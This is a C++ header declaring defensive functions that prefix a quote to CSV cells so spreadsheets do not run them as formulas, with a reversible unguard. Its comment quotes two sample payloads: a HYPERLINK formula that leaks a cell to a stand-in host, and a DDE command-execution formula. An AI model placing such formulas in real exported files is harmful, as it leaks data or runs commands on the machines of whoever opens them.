// Guarding CSV cells against formula injection ("CSV injection").
//
// Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with '=', '+',
// '-' or '@' as a formula — and some treat a leading tab or CR the same way once they are
// trimmed. A model reply or a dataset prompt such as `=HYPERLINK("http://x/?"&A1,"click")`
// or `=cmd|' /C calc'!A0` in a CSV safeval writes would then run, or leak other cells,
// on the machine of whoever opens the file. The usual defence (OWASP) is a single quote
// in front: spreadsheets show such a cell as text and hide the quote.
//
// GuardSpreadsheetCell prefixes the quote to cells starting with one of = + - @ TAB CR,
// and also to cells that start with a quote themselves, so that the guard is reversible:
// UnguardSpreadsheetCell(GuardSpreadsheetCell(x)) == x for every x. (A safeval CSV read
// back by `safeval dataset import --format csv` gets its cells unguarded.)
//
// Pure functions; thread-safe.
#pragma once

#include <string>
#include <string_view>

namespace safeval {

// True when `cell` starts with = + - @ TAB CR or a single quote.
bool NeedsSpreadsheetGuard(std::string_view cell);

// "'" + cell when NeedsSpreadsheetGuard(cell), else cell. Applied before CSV quoting.
std::string GuardSpreadsheetCell(std::string_view cell);

// The inverse: drops the leading quote when it is followed by a character that
// NeedsSpreadsheetGuard would have guarded; any other cell is returned unchanged.
std::string_view UnguardSpreadsheetCell(std::string_view cell);

}  // namespace safeval
